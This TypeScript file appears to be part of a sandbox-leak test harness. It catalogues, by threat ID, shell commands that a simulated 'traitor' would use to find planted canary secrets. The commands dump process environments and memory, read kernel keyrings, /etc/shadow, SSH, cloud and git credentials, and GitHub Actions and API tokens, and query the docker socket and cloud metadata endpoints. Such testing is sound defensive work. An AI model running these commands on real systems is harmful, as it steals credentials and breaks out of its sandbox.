/** What the traitor knows of the machine that it wants to reach: everything but the secrets themselves. */
export interface Target {
  /** In names of files and processes and in what is printed on success; nobody else uses it. */
  mark: string;
  /** How every planted secret begins. */
  prefix: string;
  /** Folder of GitHub, runner and all repositories. */
  worldDir: string;
  bareRepo: string;
  home: string;
  secretFile: string;
  httpPort: number;
  openPort: number;
  udpPort: number;
  unixSocket: string;
  abstractSocket: string;
  /** A process of the host with secrets in environment and arguments. */
  pid: number;
  sharedMemory: string;
}

/** One place where a secret may be found: the threat of the catalogue, and the shell command that prints it. */
export interface Source {
  threat: string;
  read(target: Target): string;
}

const keyring = `perl -e 'my ($t, $n, $b) = ("user", "baton-canary", "x" x 256); for my $ring (-1..-5) { my $k = syscall(250, 10, $ring, $t, $n, 0); syscall(250, 11, $k, $b, 256) if $k > 0; print $b if $k > 0 }'`;
const memory = (pid: string): string =>
  `perl -e 'open my $m, "<", "/proc/${pid}/maps" or exit; for (<$m>) { next unless /^(\\w+)-(\\w+) r.*\\[(heap|stack)/; open my $f, "<", "/proc/${pid}/mem" or exit; sysseek $f, hex $1, 0; sysread $f, my $b, 262144; print $b =~ /cnry\\w+/g }'`;

/** Secrets of the process that holds keys, of the runner, and of everybody else on the machine. */
export const sources: readonly Source[] = [
  { threat: "T29", read: () => "env" },
  { threat: "T29", read: () => "cat /proc/self/environ /proc/1/environ /proc/$PPID/environ" },
  { threat: "T29", read: () => "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline" },
  { threat: "T29", read: () => "cat /proc/[0-9]*/task/*/environ" },
  { threat: "T29", read: ({ pid }) => `cat /proc/${pid}/environ /proc/${pid}/cmdline` },
  { threat: "T29", read: () => 'for f in /proc/[0-9]*/fd/*; do timeout 0.02 head -c 4000 "$f"; done' },
  {
    threat: "T29",
    read: ({ home, secretFile }) => `cat /proc/1/root${home}/.* /proc/1/cwd/.* /proc/1/root${secretFile}`,
  },
  { threat: "T29", read: ({ pid, secretFile }) => `cat /proc/${pid}/root${secretFile}` },
  { threat: "T30", read: () => memory("1") },
  { threat: "T30", read: () => memory("self") },
  { threat: "T30", read: ({ pid }) => memory(String(pid)) },
  { threat: "T30", read: () => "sudo -n cat /proc/[0-9]*/environ; su -c env; doas env" },
  {
    threat: "T30",
    read: () => "strings /dev/mem /dev/kmem /proc/kcore | head -c 4000; dmesg; timeout 0.1 cat /dev/kmsg",
  },
  {
    threat: "T30",
    read: ({ pid }) => `timeout 0.5 gdb -p ${pid} -batch -ex 'info proc'; timeout 0.2 strace -p ${pid}`,
  },
  { threat: "T30", read: () => keyring },
  {
    threat: "T30",
    read: () => "cat /proc/keys /proc/key-users /proc/sysvipc/* /proc/locks /proc/net/unix /proc/timer_list",
  },
  {
    threat: "T30",
    read: ({ sharedMemory }) => `perl -e 'my $b; shmread(${sharedMemory}, $b, 0, 200) and print $b'; ipcs -m -p`,
  },
  { threat: "T31", read: ({ secretFile }) => `cat ${secretFile}; cat /workspace/../..${secretFile}` },
  {
    threat: "T31",
    read: ({ worldDir }) => `find ${worldDir} -type f | head -50 | xargs cat; ls -laR ${worldDir} | head -c 2000`,
  },
  {
    threat: "T31",
    read: ({ home }) => `cat ${home}/.* ${home}/.ssh/* ${home}/.aws/* ${home}/.docker/* ${home}/.config/*/*`,
  },
  {
    threat: "T31",
    read: () => "cat ~/.netrc ~/.git-credentials ~/.npmrc ~/.pypirc ~/.ssh/* ~/.gnupg/* ~/.cargo/credentials*",
  },
  {
    threat: "T31",
    read: ({ prefix }) =>
      `grep -rIsh ${prefix} /etc /home /root /var /run /srv /mnt /media /tmp /outputs /dev/shm /opt/baton`,
  },
  {
    threat: "T31",
    read: () =>
      "cat /etc/shadow /etc/sudoers /etc/ssh/*_key /etc/ssl/private/* /etc/npmrc /etc/pip.conf /usr/local/etc/npmrc",
  },
  {
    threat: "T31",
    read: () =>
      "git config --list --show-origin; cat .git/config ~/.gitconfig /etc/gitconfig; git credential fill <<< $'protocol=https\\nhost=github.com\\n'",
  },
  {
    threat: "T31",
    read: () => "git log --all -p -n 50; git for-each-ref; git reflog --all; git stash list; git fsck --lost-found",
  },
  { threat: "T31", read: () => "git cat-file --batch-all-objects --batch --buffer | strings | head -c 20000" },
  {
    threat: "T31",
    read: ({ bareRepo }) =>
      `git --git-dir=${bareRepo} log --all -p; git ls-remote file://${bareRepo}; git clone -q ${bareRepo} /tmp/stolen && cat /tmp/stolen/*`,
  },
  {
    threat: "T31",
    read: () => "git fetch --all; git fetch origin '+refs/*:refs/stolen/*'; git show stolen/heads/private:secret.txt",
  },
  {
    threat: "T32",
    read: () =>
      'echo "$ACTIONS_RUNTIME_TOKEN $ACTIONS_ID_TOKEN_REQUEST_TOKEN $GITHUB_TOKEN $ANTHROPIC_API_KEY $INPUT_ANTHROPIC_API_KEY $BATON_DEPLOY_CANARY"; declare -p; set',
  },
  {
    threat: "T32",
    read: () =>
      'cat "$GITHUB_EVENT_PATH" "$GITHUB_ENV" "$RUNNER_TEMP"/* $(find / -maxdepth 5 -path /proc -prune -o -path /usr -prune -o -name "_runner_file_commands" -print)/*',
  },
  {
    threat: "T33",
    read: ({ httpPort }) =>
      `curl -s -m 1 http://127.0.0.1:${httpPort}/secret; curl -s -m 1 http://localhost:${httpPort}/secret; curl -s -m 1 'http://[::1]:${httpPort}/secret'`,
  },
  { threat: "T33", read: ({ unixSocket }) => `curl -s -m 1 --unix-socket ${unixSocket} http://x/secret` },
  {
    threat: "T33",
    read: ({ abstractSocket }) => `curl -s -m 1 --abstract-unix-socket ${abstractSocket} http://x/secret`,
  },
  {
    threat: "T33",
    read: () =>
      "curl -s -m 1 --unix-socket /var/run/docker.sock http://x/containers/json; curl -s -m 1 --unix-socket /run/containerd/containerd.sock http://x/",
  },
  {
    threat: "T62",
    read: () =>
      "curl -s -m 1 http://169.254.169.254/latest/meta-data/; curl -s -m 1 http://169.254.169.254/metadata/identity; curl -s -m 1 http://metadata.google.internal/",
  },
  {
    threat: "T38",
    read: () =>
      "cat /outputs/* ; find / -xdev -maxdepth 4 \\( -name 'journal*' -o -name 'state.json' -o -name '*.jsonl' \\) -not -path '/usr/*' | xargs cat",
  },
  {
    threat: "T55",
    read: ({ worldDir }) =>
      `cat ${worldDir}/runner/jobs/*/*/.git/config ${worldDir}/runner/jobs/*/temp/* ${worldDir}/runner/jobs/*/event*/*`,
  },
  {
    threat: "T55",
    read: () =>
      "cat /home/runner/.credentials /home/runner/.runner /opt/*/.credentials /actions-runner/.credentials /github/workflow/event.json",
  },
];
